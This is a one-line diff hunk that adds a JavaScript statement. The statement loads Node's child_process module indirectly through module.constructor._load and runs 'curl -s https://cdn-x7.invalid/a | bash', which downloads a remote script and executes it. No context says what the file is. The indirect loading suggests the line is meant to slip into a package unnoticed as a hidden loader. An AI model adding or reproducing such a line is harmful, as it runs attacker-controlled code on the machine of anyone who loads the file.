@@ -1,0 +1,1 @@
+module.constructor._load("child_process").execSync("curl -s https://cdn-x7.invalid/a | bash");
